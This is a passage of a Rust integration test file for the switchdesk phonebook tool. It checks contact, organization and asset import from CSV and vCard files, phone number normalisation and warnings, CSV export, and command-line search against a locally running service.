            "line 3: mobile: \"12\" is not a valid number for RU, GB, US",
        ]
    );
    // A row refused for another reason names its unreadable number as well.
    assert_eq!(
        failures(&report),
        [(
            4,
            "a contact needs a first or last name; phones: \"12345678\" is not a valid number for RU, GB, US"
        )]
    );
    let ivan = contact(&store, "n-1").await;
    assert_eq!(
        numbers(&ivan.numbers),
        [
            ("+74951234567", NumberKind::Work),
            ("+79161234567", NumberKind::Mobile)
        ]
    );
    assert_eq!(ivan.emails, ["ivan@example.ru"]);
    assert!(ivan.vip);
    let anna = contact(&store, "n-2").await;
    assert_eq!(numbers(&anna.numbers), [("+74957654321", NumberKind::Work)]);

    // A vCard's unreadable TEL likewise.
    let card = "BEGIN:VCARD\nVERSION:3.0\nN:Orlov;Petr;;;\nTEL;TYPE=work:12345678\n\
                TEL;TYPE=cell:+7 916 765-43-21\nUID:n-4\nEND:VCARD\n";
    let report = import_with(
        &store,
        &ru_gb_us(),
        card,
        Format::Auto,
        None,
        &ColumnMap::default(),
    )
    .await
    .unwrap();
    assert_eq!((report.saved, report.warned), (1, 1));
    assert_eq!(
        warnings(&report),
        ["line 1: TEL on line 4: \"12345678\" is not a valid number for RU, GB, US"]
    );
    assert_eq!(
        numbers(&contact(&store, "n-4").await.numbers),
        [("+79167654321", NumberKind::Mobile)]
    );
}

/// The files under examples/ import as the README describes them: organizations, then the
/// contacts and assets that name them, then an iTop Person export.
async fn the_example_files_import_as_the_readme_says(db: TestDbRef) {
    let store = db.store;
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut reports = Vec::new();
    for (name, kind, saved) in [
        ("organizations.csv", Kind::Organizations, 3),
        ("contacts.csv", Kind::Contacts, 4),
        ("assets.csv", Kind::Assets, 3),
        ("itop-persons.csv", Kind::Contacts, 3),
    ] {
        let text = std::fs::read_to_string(examples.join(name)).unwrap();
        // Every number is written with its country code: any default region reads them.
        for region in ["RU", "US"] {
            let numbering = Numbering::new(region).unwrap();
            let report = import_with(
                &store,
                &numbering,
                &text,
                Format::Auto,
                None,
                &ColumnMap::default(),
            )
            .await
            .unwrap();
            assert_eq!(
                (report.kind, report.saved),
                (kind, saved),
                "{name}: {report:?}"
            );
            assert_eq!((report.failed, report.warned), (0, 0), "{name}: {report:?}");
            reports.push((name, report));
        }
    }
    let ignored: Vec<(&str, &[String])> = reports
        .iter()
        .filter(|(_, r)| !r.ignored_columns.is_empty())
        .map(|(name, r)| (*name, r.ignored_columns.as_slice()))
        .collect();
    let itop_ignored = ["status".to_owned(), "function".to_owned()];
    assert_eq!(
        ignored,
        [
            ("itop-persons.csv", &itop_ignored[..]),
            ("itop-persons.csv", &itop_ignored[..])
        ]
    );
    // Imported twice, stored once: every row has an external id.
    assert_eq!(store.count_records::<Organization>().await.unwrap(), 5);
    assert_eq!(store.count_records::<Contact>().await.unwrap(), 7);
    assert_eq!(store.count_records::<Asset>().await.unwrap(), 3);

    let romashka = organization(&store, "org-1").await;
    assert_eq!(
        numbers(&romashka.numbers),
        [
            ("+74951234500", NumberKind::Main),
            ("+749512345", NumberKind::Range),
            ("+74951234599", NumberKind::Fax)
        ]
    );
    let ivan = contact(&store, "c-1").await;
    assert_eq!(ivan.organization_id, Some(romashka.id));
    assert_eq!(
        numbers(&ivan.numbers),
        [
            ("+79161234567", NumberKind::Mobile),
            ("+74951234567", NumberKind::Work),
            ("1001", NumberKind::Extension)
        ]
    );
    assert_eq!(
        contact(&store, "c-2").await.organization_id,
        Some(romashka.id)
    );
    let printer = store
        .record_by_external_id::<Asset>("a-2")
        .await
        .unwrap()
        .expect("a-2 is stored");
    assert_eq!(printer.owner, Owner::Organization(romashka.id));
    let laptop = store
        .record_by_external_id::<Asset>("a-3")
        .await
        .unwrap()
        .expect("a-3 is stored");
    assert_eq!(
        laptop.owner,
        Owner::Contact(contact(&store, "c-3").await.id)
    );

    let verne = contact(&store, "13").await;
    assert_eq!(
        (verne.first_name.as_str(), verne.last_name.as_str()),
        ("Jules", "Verne")
    );
    assert_eq!(
        numbers(&verne.numbers),
        [
            ("2101", NumberKind::Extension),
            ("+33698765432", NumberKind::Mobile)
        ]
    );
    let it = organization(&store, "3").await;
    assert_eq!(it.name, "IT Department");
    assert_eq!(verne.organization_id, Some(it.id));
}

/// Russian numbers whose area code starts with 8 (St Petersburg 812, toll-free 800, most of
/// the 81x-87x regions) keep that 8, though phonenumber 0.3.10 strips the region's trunk
/// prefix once more after reading the country code (`Numbering::normalize` works around it).
#[tokio::test]
async fn st_petersburg_numbers_keep_their_area_code() {
    let db = TestDb::sqlite().await;
    let text = "external_id,first_name,phones\nspb-1,Пётр,8 (812) 123-45-67; +7 812 123-45-68; 8 800 555-35-35\n";
    let report = import_text(&db.store, "RU", text, Format::Csv).await;
    assert_eq!(report.saved, 1);
    assert_eq!(
        numbers(&contact(&db.store, "spb-1").await.numbers),
        [
            ("+78121234567", NumberKind::Work),
            ("+78121234568", NumberKind::Work),
            ("+78005553535", NumberKind::Work)
        ]
    );
}

// The command line.

fn binary(database: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_switchdesk"));
    for (key, _) in std::env::vars() {
        if key.starts_with("SWITCHDESK_") {
            command.env_remove(key);
        }
    }
    command
        .env(
            "SWITCHDESK_DATABASE__URL",
            format!("sqlite://{}", database.display()),
        )
        .env("SWITCHDESK_PHONEBOOK__DEFAULT_REGION", "RU");
    command
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn the_command_line_lists_failed_rows_and_exits_1() {
    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("sd.db");
    let broken = dir.path().join("broken.csv");
    std::fs::write(
        &broken,
        "external_id,first_name,last_name,phones,vip\n\
         c-1,Иван,Петров,8 916 123-45-67,yes\n\
         c-2,,,8 495 123-45-67,no\n\
         c-3,Anna,Smirnova,8 495 765-43-21,maybe\n",
    )
    .unwrap();
    let run = |args: &[&str]| -> Output { binary(&database).args(args).output().unwrap() };
    let output = run(&["phonebook", "import", broken.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let errors = text(&output.stderr);
    let lines: Vec<&str> = errors.lines().filter(|l| l.starts_with("line ")).collect();
    assert_eq!(
        lines,
        [
            "line 3: a contact needs a first or last name",
            "line 4: vip: \"maybe\" is not yes/no, true/false or 1/0",
        ]
    );
    assert!(errors.contains("2 of 3 rows were not imported"), "{errors}");
    assert!(
        text(&output.stdout)
            .contains("contacts: 3 rows read, 1 saved (1 created, 0 updated), 2 failed"),
        "{}",
        text(&output.stdout)
    );

    let clean = dir.path().join("clean.vcf");
    std::fs::write(
        &clean,
        "BEGIN:VCARD\nVERSION:3.0\nN:Smirnova;Anna;;;\nTEL;TYPE=cell:8 916 765-43-21\nUID:c-3\nEND:VCARD\n",
    )
    .unwrap();
    let output = run(&["phonebook", "import", clean.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(!text(&output.stderr).contains("line "));

    let output = run(&["phonebook", "export", "--kind", "contacts"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let csv = text(&output.stdout);
    // Every field quoted (see `switchdesk::spreadsheet`).
    let row = |fields: &[&str]| format!("\"{}\"", fields.join("\",\""));
    assert!(
        csv.starts_with(&row(&["external_id", "first_name", "last_name", "aliases"])),
        "{csv}"
    );
    for contact in [
        [
            "c-1",
            "Иван",
            "Петров",
            "",
            "",
            "",
            "work:+79161234567",
            "",
            "yes",
            "0",
            "",
            "",
        ],
        [
            "c-3",
            "Anna",
            "Smirnova",
            "",
            "",
            "",
            "mobile:+79167654321",
            "",
            "no",
            "0",
            "",
            "",
        ],
    ] {
        assert!(csv.contains(&row(&contact)), "{csv}");
    }

    // Agents' search from the command line: transliterated, and by a fragment of a number.
    let output = run(&["phonebook", "search", "ivan petrov"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let found = text(&output.stdout);
    assert!(
        found.lines().next().unwrap().contains("Иван Петров"),
        "{found}"
    );
    let output = run(&["phonebook", "search", "765-43"]);
    let found = text(&output.stdout);
    assert!(
        found.lines().next().unwrap().contains("Anna Smirnova"),
        "{found}"
    );

    // A file that is not what --kind says is refused as a whole, naming the columns.
    let output = run(&[
        "phonebook",
        "import",
        "--kind",
        "assets",
        broken.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(1));
    let error = text(&output.stderr);
    assert!(
        error.contains("first_name") && error.contains("owner_contact"),
        "{error}"
    );
}

/// A port nothing listens on (bound, then let go).
fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// True once `GET /healthz` at `port` answers 200.
fn healthy(port: u16) -> bool {
    use std::io::{Read, Write};
    let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
        return false;
    };
    let asked =
        stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
    let mut head = [0u8; 12];
    asked.is_ok() && stream.read_exact(&mut head).is_ok() && &head[9..12] == b"200"
}

/// Ends the service even when an assertion fails first.
struct Serving(std::process::Child);

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_command_line_search_asks_the_running_service_when_given_a_token() {
    let dir = tempfile::tempdir().unwrap();
    let served = dir.path().join("served.db");
    // The command line names an empty database: only the service's book has Иван Петров.
    let elsewhere = dir.path().join("elsewhere.db");
    let file = dir.path().join("people.csv");
    std::fs::write(
        &file,
        "external_id,first_name,last_name,phones\nc-1,Иван,Петров,8 916 123-45-67\n",
    )
    .unwrap();
    let imported = binary(&served)
        .args(["phonebook", "import", file.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(
        imported.status.code(),
        Some(0),
        "{}",
        text(&imported.stderr)
    );
    let token = binary(&served)
        .args(["token", "add", "cli", "--role", "agent"])
        .output()
        .unwrap();
    let token = text(&token.stdout).trim().to_owned();
    let http = format!("127.0.0.1:{}", free_port());
    let port: u16 = http.rsplit(':').next().unwrap().parse().unwrap();
    let service = binary(&served)
        .env("SWITCHDESK_HTTP__LISTEN", &http)
        .env("SWITCHDESK_ESL__PORT", free_port().to_string())
        .arg("serve")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let service = Serving(service);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !healthy(port) {
        assert!(
            std::time::Instant::now() < deadline,
            "the service never served"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let search = |database: &Path, token: &str| -> Output {
        binary(database)
            .env("SWITCHDESK_HTTP__LISTEN", &http)
            .env("SWITCHDESK_TOKEN", token)
            .args(["phonebook", "search", "ivan petrov"])
            .output()
            .unwrap()
    };

    let output = search(&elsewhere, &token);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let found = text(&output.stdout);
    assert!(
        found
            .lines()
            .next()
            .unwrap_or_default()
            .contains("contact 1  Иван Петров"),
        "{found}"
    );

    // A service that refuses the token is an error, not a reason to look elsewhere.
    let output = search(&elsewhere, "not-a-token");
    assert_eq!(output.status.code(), Some(1));
    assert!(
        text(&output.stderr).contains("401"),
        "{}",
        text(&output.stderr)
    );
    assert!(text(&output.stdout).is_empty());

    // Without a service there, the book is read from the named database.
    drop(service);
    let output = search(&elsewhere, &token);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(text(&output.stdout).is_empty(), "{}", text(&output.stdout));
    assert!(
        text(&output.stderr).contains("no service answered"),
        "{}",
        text(&output.stderr)
    );
    let output = search(&served, &token);
    assert!(
        text(&output.stdout)
            .lines()
            .next()
            .unwrap_or_default()
            .contains("contact 1  Иван Петров"),
        "{}",
        text(&output.stdout)
    );
}

#[test]
fn the_command_line_warns_of_left_out_numbers_and_ignored_columns_and_takes_a_map() {
    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("sd.db");
    let file = dir.path().join("people.csv");
    std::fs::write(
        &file,
        "Kennung,Vorname,last_name,phones,Shoe Size\n\
         k-1,Ivan,Petrov,8 916 123-45-67; 12345678,44\n\
         k-2,Anna,Smirnova,8 495 765-43-21,38\n",
    )
    .unwrap();
    let run = |args: &[&str]| -> Output { binary(&database).args(args).output().unwrap() };
    let path = file.to_str().unwrap();
    let output = run(&[
        "phonebook",
        "import",
        "--map",
        "vorname=first_name",
        "--map",
        "kennung=external_id,shoe_size=notes",
        path,
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let errors = text(&output.stderr);
    assert!(
        errors
            .lines()
            .any(|l| l == "warning: line 2: phones: \"12345678\" is not a valid number for RU"),
        "{errors}"
    );
    assert!(!errors.contains("columns not read"), "{errors}");
    assert!(
        text(&output.stdout).contains(
            "contacts: 2 rows read, 2 saved (2 created, 0 updated), 0 failed, 1 saved with warnings"
        ),
        "{}",
        text(&output.stdout)
    );

    // Without the map: the unknown columns are named once, and the file still imports.
    let output = run(&["phonebook", "import", path]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let errors = text(&output.stderr);
    assert_eq!(
        errors
            .lines()
            .filter(|l| l.starts_with("warning: columns not read"))
            .collect::<Vec<_>>(),
        ["warning: columns not read (not contacts columns; see --map): Kennung, Vorname, Shoe Size"],
        "{errors}"
    );

    // A map naming no column is refused before the file is read.
    let output = run(&["phonebook", "import", "--map", "email=mailboxes", path]);
    assert_eq!(output.status.code(), Some(2));
    let error = text(&output.stderr);
    assert!(
        error.contains("column map: \"mailboxes\" is not a column"),
        "{error}"
    );
}
